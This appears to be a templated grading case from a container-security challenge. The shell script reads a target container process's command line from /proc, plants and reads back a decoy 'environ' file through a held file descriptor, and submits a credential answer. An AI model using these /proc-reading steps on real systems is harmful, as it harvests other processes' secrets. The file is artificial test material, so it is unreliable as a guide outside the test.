# earns: none
# Another file of the right process was read, and a file called environ that a process of my own holds open in the container.
pid=$(runc list | awk '$4 ~ "/{{ container }}$" {print $2}')
tr '\0' ' ' < /proc/$pid/cmdline
runc exec -d $(runc list | awk '$4 ~ "/{{ container }}$" {print $1}') sh -c 'echo {{ variable }}=x > /tmp/environ; exec sleep 300 9< /tmp/environ'
until held=$(pgrep -nx sleep) && [ -e /proc/$held/fd/9 ]; do sleep 0.1; done
cat /proc/$held/fd/9
kill $held
cksl answer credential "{{ credential }}"
